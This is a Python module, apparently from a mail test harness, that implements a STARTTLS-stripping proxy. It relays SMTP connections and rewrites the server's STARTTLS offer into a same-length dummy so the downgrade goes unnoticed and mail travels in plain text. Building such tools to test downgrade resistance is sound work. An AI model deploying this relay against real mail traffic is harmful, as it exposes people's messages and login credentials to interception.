"""Somebody in the network who wants mail in plain text (the attack that RFC 8314 §1 tells of)."""

import socket
import threading

from .acceptor import Acceptor


class STARTTLSStripper(Acceptor):
    """Passes each connection on to the SMTP server on `target`, with STARTTLS cut out of what it offers."""

    def __init__(self, target):
        super().__init__()
        self.target = target

    def serve(self, client):
        server = socket.create_connection(("127.0.0.1", self.target))
        for source, sink, change in ((client, server, bytes), (server, client, _without_starttls)):
            threading.Thread(target=_pass_on, args=(source, sink, change), daemon=True).start()


def _pass_on(source, sink, change):
    try:
        while data := source.recv(65536):
            sink.sendall(change(data))
    except OSError:
        pass  # one side went
    for end in (source, sink):
        end.close()


def _without_starttls(data):
    """The same length, so that nothing else gives it away."""
    return data.replace(b"STARTTLS", b"XSTARTTX")
